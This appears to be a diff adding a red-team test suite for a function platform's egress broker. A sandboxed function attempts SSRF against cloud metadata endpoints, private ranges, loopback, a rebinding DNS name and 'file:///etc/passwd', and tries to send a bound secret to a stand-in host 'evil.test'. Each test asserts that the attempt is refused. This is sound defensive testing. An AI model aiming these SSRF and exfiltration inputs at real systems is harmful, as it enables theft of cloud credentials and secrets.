@@ -1,0 +1,157 @@
+// Red team, egress abuse: a function granted egress to one partner API tries to reach everything
+// else — cloud metadata, the operator's private network, host loopback, hosts outside its
+// allowlist, a DNS name that resolves to a private address, a redirect into the private network —
+// and tries to get a tenant secret (stored through the real secrets API) sent to a host it is not
+// bound to, or echoed back into its result. The broker's resolver is injected (test names resolve
+// to 127.0.0.1 or to private addresses); its connector really connects, but only to the partner
+// server this test runs on 127.0.0.1, and records every connection it is asked for: each refusal is
+// proven to happen before any connection.
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { httpConnector } from '../../src/egress/transport.js';
+import type { Connector } from '../../src/egress/transport.js';
+import { deploy, invoke, startTestServer } from '../support/server.js';
+import type { TestServer } from '../support/server.js';
+import { startHttpServer, tableResolver } from '../egress/support.js';
+import type { TestHttpServer } from '../egress/support.js';
+
+const SECRET = `sk-redteam-${process.pid}-${Date.now()}`;
+
+describe('red team: egress', () => {
+  let api: TestServer;
+  let partner: TestHttpServer;
+  const connections: string[] = [];
+  const seenByPartner: string[] = [];
+  let policy: { allow: { host: string; ports: number[] }[] };
+
+  before(async () => {
+    partner = await startHttpServer((req, res, body) => {
+      seenByPartner.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body.toString()}`);
+      if (req.url === '/to-metadata') {
+        res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/iam/' });
+        return void res.end();
+      }
+      if (req.url === '/to-internal') {
+        res.writeHead(307, { location: `http://internal.corp.test:${partner.port}/admin` });
+        return void res.end();
+      }
+      if (req.url === '/echo-auth') return void res.end(`you sent: ${req.headers.authorization ?? ''}`);
+      res.end('partner ok');
+    });
+    const real = httpConnector();
+    const connector: Connector = (req) => {
+      connections.push(`${req.target.host}@${req.address.address}`);
+      // Only the partner on 127.0.0.1 is ever contacted; anything else fails loudly.
+      if (req.address.address !== '127.0.0.1' || req.target.port !== partner.port) {
+        assert.fail(`a connection to ${req.address.address}:${req.target.port} (${req.target.host}) was attempted`);
+      }
+      return real(req);
+    };
+    const resolver = tableResolver({
+      'api.partner.test': ['127.0.0.1'],
+      'evil.test': ['127.0.0.1'],
+      'internal.corp.test': ['10.1.2.3'],
+      'rebind.partner.test': ['127.0.0.1', '169.254.169.254'],
+    });
+    // The operator allows exactly the partner's address; nothing else private.
+    api = await startTestServer({ AIRLOCK_EGRESS_ALLOW_CIDRS: '127.0.0.1/32' }, { egressResolver: resolver, egressConnector: connector });
+    policy = {
+      allow: [
+        { host: 'api.partner.test', ports: [partner.port] },
+        { host: 'rebind.partner.test', ports: [partner.port] },
+        { host: 'internal.corp.test', ports: [partner.port] },
+      ],
+    };
+    const put = await api.request('PUT', '/v1/tenants/mallory/secrets/PARTNER_TOKEN', { value: SECRET, hosts: ['api.partner.test'] });
+    assert.equal(put.status, 201, JSON.stringify(put.body));
+    await deploy(api, 'mallory', 'ssrf', `export default async (input) => {
+      try {
+        const res = await fetch(input.url, input.init);
+        return { ok: true, status: res.status, body: await res.text() };
+      } catch (err) {
+        return { ok: false, code: err.code, message: String(err.message) };
+      }
+    };`, { egress: policy });
+  });
+
+  after(async () => {
+    await api?.close();
+    await partner?.close();
+  });
+
+  async function attempt(url: string, init?: Record<string, unknown>): Promise<{ ok: boolean; code?: string; status?: number; body?: string; message?: string }> {
+    const before = connections.length;
+    const res = await invoke(api, 'mallory', 'ssrf', { url, init });
+    assert.equal(res.body.status, 'succeeded', JSON.stringify(res.body));
+    const out = res.body.result as { ok: boolean; code?: string };
+    if (!out.ok) assert.equal(connections.length, before, `no connection for a refused request (${url})`);
+    return out;
+  }
+
+  it('the granted partner host works (the baseline the refusals are measured against)', async () => {
+    const out = await attempt(`http://api.partner.test:${partner.port}/hello`);
+    assert.deepEqual([out.ok, out.status, out.body], [true, 200, 'partner ok']);
+  });
+
+  const refused: [string, (port: number) => string][] = [
+    ['cloud metadata by literal address', () => 'http://169.254.169.254/latest/meta-data/'],
+    ['IPv6 metadata', () => 'http://[fd00:ec2::254]/latest/meta-data/'],
+    ['host loopback by literal address (not on the allowlist)', (p) => `http://127.0.0.1:${p}/hello`],
+    ['a private range by literal address', () => 'http://10.0.0.1/'],
+    ['metadata hidden in an IPv4-mapped IPv6 address', () => 'http://[::ffff:169.254.169.254]/'],
+    ['a host outside the allowlist', (p) => `http://evil.test:${p}/`],
+    ['an allowed name that resolves into the private network', (p) => `http://internal.corp.test:${p}/admin`],
+    ['an allowed name that also resolves to metadata (mixed answer)', (p) => `http://rebind.partner.test:${p}/`],
+    ['the allowed host on a port it was not granted', () => 'http://api.partner.test:22/'],
+    ['a non-HTTP scheme', () => 'file:///etc/passwd'],
+  ];
+  for (const [what, url] of refused) {
+    it(`refuses ${what} before any connection`, async () => {
+      const out = await attempt(url(partner.port));
+      assert.equal(out.ok, false, JSON.stringify(out));
+      assert.match(out.code ?? '', /^EGRESS_(DENIED|FAILED)$/);
+    });
+  }
+
+  it('a redirect from the partner into metadata or the private network is refused at the hop', async () => {
+    for (const path of ['/to-metadata', '/to-internal']) {
+      const before = connections.length;
+      const out = await attempt(`http://api.partner.test:${partner.port}${path}`);
+      assert.equal(out.ok, false, JSON.stringify(out));
+      assert.equal(out.code, 'EGRESS_DENIED');
+      assert.equal(connections.length, before + 1, 'only the first hop, to the partner, connected');
+    }
+  });
+
+  it('a secret bound to the partner is never sent to another host, and never reaches the sandbox', async () => {
+    const seen = seenByPartner.length;
+    // to a host the secret is not bound to: refused before any connection
+    const wrongHost = await attempt(`http://evil.test:${partner.port}/`, { headers: { authorization: 'Bearer {{secrets.PARTNER_TOKEN}}' } });
+    assert.equal(wrongHost.ok, false);
+    assert.equal(wrongHost.code, 'EGRESS_DENIED');
+    // to the bound host: substituted on the host, and the echo comes back masked
+    const echoed = await attempt(`http://api.partner.test:${partner.port}/echo-auth`, { headers: { authorization: 'Bearer {{secrets.PARTNER_TOKEN}}' } });
+    assert.equal(echoed.ok, true);
+    assert.ok(!JSON.stringify(echoed).includes(SECRET), 'the secret value never reaches the sandbox');
+    assert.match(echoed.body ?? '', /\[secret:PARTNER_TOKEN\]/);
+    assert.ok(seenByPartner.slice(seen).some((line) => line.includes(SECRET)), 'the partner did receive the real value');
+    // a secret that does not exist is refused, not sent as a literal placeholder
+    const unknown = await attempt(`http://api.partner.test:${partner.port}/`, { headers: { authorization: 'Bearer {{secrets.NOPE}}' } });
+    assert.equal(unknown.ok, false);
+  });
+
+  it('a function without an egress grant has no broker at all', async () => {
+    await deploy(api, 'mallory', 'no-grant', `export default async (input, ctx) => {
+      let error = null;
+      try { await fetch(input.url); } catch (err) { error = String(err.cause?.code ?? err.code ?? err.message); }
+      return { hasCtxFetch: typeof ctx.fetch, error };
+    };`);
+    const before = connections.length;
+    const res = await invoke(api, 'mallory', 'no-grant', { url: `http://127.0.0.1:${partner.port}/hello` });
+    assert.equal(res.body.status, 'succeeded', JSON.stringify(res.body));
+    const out = res.body.result as { hasCtxFetch: string; error: string | null };
+    assert.equal(out.hasCtxFetch, 'undefined');
+    assert.notEqual(out.error, null, 'the plain fetch failed');
+    assert.equal(connections.length, before, 'the broker was never asked');
+  });
+});
